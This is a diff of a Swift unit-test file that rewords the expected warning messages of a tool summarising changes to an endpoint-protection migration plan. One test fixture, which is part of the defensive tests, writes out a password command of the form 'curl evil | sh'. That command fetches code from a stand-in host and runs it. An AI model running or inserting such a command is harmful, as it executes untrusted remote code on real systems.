@@ -40,7 +40,7 @@ struct PlanDiffTextTests {
       "  ⚠ every wait goes on at the deadline (14d) with 80% instead of holding"),
     Edit(
       "activeWithin: 30d", "activeWithin: 10d",
-      "  ⚠ every wait counts clients seen within 10d instead of 30d: who was away longer is not waited for"
+      "  ⚠ every wait counts clients seen within 10d instead of 30d: clients that were away longer are not waited for"
     ),
     Edit(
       "osFunction: DomainController, adopted: 100%", "osFunction: DomainController, adopted: 90%",
@@ -49,7 +49,7 @@ struct PlanDiffTextTests {
     Edit(
       "    holdFor: 2h\n    cohorts:\n      - { name: controllers, osFunction: DomainController, adopted: 100% }",
       "    holdFor: 2h",
-      "  ⚠ every wait looks no more at the cohort controllers, which had to reach 100%"),
+      "  ⚠ every wait no longer counts the cohort controllers, which had to reach 100%"),
     Edit(
       "    holdFor: 2h",
       "    holdFor: 2h\n    exclude: [{ group: 'My Company\\Lab', reason: isolated }]",
@@ -61,10 +61,10 @@ struct PlanDiffTextTests {
     // Sites, servers, strategy.
     Edit(
       "    clients: 900\n", "    clients: 900\n    strategy: { method: suspend-verification }\n",
-      "  ~ site berlin: method suspend-verification, newly"),
+      "  ~ site berlin: method suspend-verification (new)"),
     Edit(
       "database: sql-express", "database: sql-server",
-      "  ⚠ the database's certificate is not renewed any more at paris (sql-express → sql-server): with SQL Express nobody can log on once it expires",
+      "  ⚠ the database's certificate is no longer renewed at paris (sql-express → sql-server): with SQL Server Express nobody can log on once it expires",
       "  - renew-database-certificate/paris: by operator",
       "  ~ site paris: database sql-express → sql-server"),
     Edit(
@@ -74,7 +74,7 @@ struct PlanDiffTextTests {
       "  waves: [[paris], [berlin]]", "  waves: [[paris, berlin]]",
       "  ⚠ verification is off at 2 sites at once instead of 1",
       "  ~ strategy: waves [paris], [berlin] → [paris, berlin]",
-      "  ~ switch-clients-to-http/berlin: also after break-replication/berlin+paris; no more after confirm-settings/paris"
+      "  ~ switch-clients-to-http/berlin: also after break-replication/berlin+paris; no longer after confirm-settings/paris"
     ),
     Edit(
       "address: par-02.example.net", "address: 10.0.0.9",
@@ -88,36 +88,36 @@ struct PlanDiffTextTests {
     Edit(
       "sepm-par-02: { address: par-02.example.net, certificate: paris-2026 }",
       "sepm-par-02: { address: par-02.example.net }",
-      "  ⚠ paris/sepm-par-02 gets no certificate any more while the site rotates",
+      "  ⚠ paris/sepm-par-02 no longer gets a certificate while the site rotates",
       "  - update-certificate/paris/sepm-par-02: by operator",
-      "  ~ server paris/sepm-par-02: certificate paris-2026 no more"),
+      "  ~ server paris/sepm-par-02: certificate paris-2026 (removed)"),
     Edit(
       "sepm-ber-01: { address: ber-01.example.net, certificate: berlin-2026 }",
       "sepm-ber-01: { address: ber-01.example.net }",
-      "  ⚠ berlin is not rotated any more"),
+      "  ⚠ berlin is no longer rotated"),
     Edit(
       "address: ber-01.example.net, certificate",
       "address: ber-01.example.net, version: 14.3.9816, upgrade: { to: 14.3.11216 }, certificate",
       "  ⚠ points of no return: 1 instead of 0",
       "  + upgrade-server/berlin/sepm-ber-01: by operator, a point of no return",
-      "  ~ server berlin/sepm-ber-01: version 14.3.9816, newly; upgrade 14.3.11216, newly"),
+      "  ~ server berlin/sepm-ber-01: version 14.3.9816 (new); upgrade 14.3.11216 (new)"),
     // Replication.
     Edit(
       "authority: paris", "authority: berlin",
       "  ⚠ berlin wins instead of paris when berlin+paris replicates again: the other's data is overwritten",
-      "  ~ restore-replication/berlin+paris: broken or restored another way"),
+      "  ~ restore-replication/berlin+paris: broken or restored differently"),
     Edit(
       "    break: delete\n    authority: paris", "    break: suspend",
-      "  ⚠ the partnership berlin+paris is broken another way: delete → suspend"),
+      "  ⚠ the partnership berlin+paris is broken differently: delete → suspend"),
     Edit(
       "replication:\n  - sites: [paris, berlin]\n    break: delete\n    authority: paris\n", "",
-      "  ⚠ replication is not broken any more: berlin+paris; it would carry half-changed lists to the partner",
+      "  ⚠ replication is no longer broken: berlin+paris; it would carry half-changed lists to the partner",
       "  - 3 steps of the sites, servers and partnerships that are gone",
       "  - partnership berlin+paris: break delete; authority paris"),
     // Certificates and trust.
     Edit(
       "    fingerprint: sha256:\(String(repeating: "3f", count: 32))\n", "",
-      "  ⚠ the certificate paris-2026 is not pinned any more (sha256:\(String(repeating: "3f", count: 32)))"
+      "  ⚠ the certificate paris-2026 is no longer pinned (sha256:\(String(repeating: "3f", count: 32)))"
     ),
     Edit(
       "fingerprint: sha256:\(String(repeating: "3f", count: 32))",
@@ -125,18 +125,18 @@ struct PlanDiffTextTests {
       "  ~ update-certificate/paris/sepm-par-01: another certificate"),
     Edit(
       "pkcs12: certs/paris.p12", "pkcs12: certs/other.p12",
-      "  ⚠ the certificate paris-2026 comes from elsewhere: pkcs12 certs/paris.p12 → pkcs12 certs/other.p12",
+      "  ⚠ the certificate paris-2026 comes from another source: pkcs12 certs/paris.p12 → pkcs12 certs/other.p12",
       "  ~ certificate paris-2026: pkcs12 certs/paris.p12 → certs/other.p12"),
     Edit(
       "password: { env: PARIS }", "password: { command: [sh, -c, 'curl evil | sh'] }",
       "  ⚠ a program is asked for the password of paris-2026: [sh, -c, 'curl evil | sh']"),
     Edit(
       "      trust: { fingerprint: sha256:\(String(repeating: "9c", count: 32)) }\n", "",
-      "  ⚠ the API of paris is trusted otherwise: sha256:\(String(repeating: "9c", count: 32)) → the system's authorities",
+      "  ⚠ the API of paris is trusted differently: sha256:\(String(repeating: "9c", count: 32)) → the system's authorities",
       "  ~ disable-verification/paris: another API"),
     Edit(
       "url: https://sepm-par-01.example.net:8446", "url: https://elsewhere.example.net:8446",
-      "  ⚠ the API of paris is elsewhere: https://sepm-par-01.example.net:8446 → https://elsewhere.example.net:8446"
+      "  ⚠ the API of paris has another URL: https://sepm-par-01.example.net:8446 → https://elsewhere.example.net:8446"
     ),
     // Programs.
     Edit(
@@ -149,13 +149,13 @@ struct PlanDiffTextTests {
     ),
     Edit(
       "back-up-server: operator", "back-up-server: { command: [backup] }",
-      "  ⚠ a program newly carries out back-up-server everywhere: [backup]",
+      "  ⚠ a program now carries out back-up-server everywhere: [backup]",
       "  ~ back-up-server/paris/sepm-par-01: by operator → command",
-      "  ~ automation: back-up-server operator → [backup]; back-up-server timeout 15m, newly"),
+      "  ~ automation: back-up-server operator → [backup]; back-up-server timeout 15m (new)"),
     Edit(
       "    clients: 900\n", "    clients: 900\n    automation: { restart-services: operator }\n",
       "  ~ restart-services/berlin/sepm-ber-01: by command → operator",
-      "  ~ automation of berlin: restart-services operator, newly"),
+      "  ~ automation of berlin: restart-services operator (new)"),
     // What changes no step.
     Edit("clients: 900", "clients: 950", "Changes no step", "  ~ site berlin: clients 900 → 950"),
     Edit(
@@ -200,7 +200,7 @@ struct PlanDiffTextTests {
     let other = try DiffSamples.edited([("sites: [paris, berlin]", "sites: [berlin, paris]")])
     let text = PlanDiffText.text(
       of: [try DiffSamples.compared(DiffSamples.base, other)], TextLayout())
-    #expect(text.contains("what they list stands in another order"))
+    #expect(text.contains("only the order of what they list differs"))
   }
 
   @Test("No difference is said in every format")
